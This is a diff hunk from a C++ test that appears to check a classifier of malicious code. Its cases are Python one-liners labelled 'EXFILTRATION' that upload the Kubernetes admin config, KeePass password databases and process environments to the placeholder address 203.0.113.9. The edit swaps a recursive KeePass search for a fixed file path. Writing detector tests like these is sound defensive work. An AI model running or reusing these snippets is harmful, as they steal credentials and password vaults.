@@ -263,9 +263,9 @@ TEST(CoverageClasses, MoreCredentialStoresAndPrinters) {
       {"the cluster admin kubeconfig", B,
        "import requests\nrequests.post('http://203.0.113.9/k', files={'f': open('/etc/kubernetes/admin.conf', 'rb')})\n",
        "EXFILTRATION"},
-      {"KeePass databases found and uploaded", B,
-       "import glob, os, requests\nfor db in glob.glob(os.path.expanduser('~/**/*.kdbx'), recursive=True):\n"
-       "    requests.post('http://203.0.113.9/kp', files={'db': open(db, 'rb')})\n",
+      {"a KeePass database in a subdirectory", B,
+       "import os, requests\n"
+       "requests.post('http://203.0.113.9/kp', files={'db': open(os.path.expanduser('~/Documents/Passwords.kdbx'), 'rb')})\n",
        "EXFILTRATION"},
       {"every process's environment by psutil", B,
        "import psutil, requests\nenvs = {p.pid: p.environ() for p in psutil.process_iter()}\n"
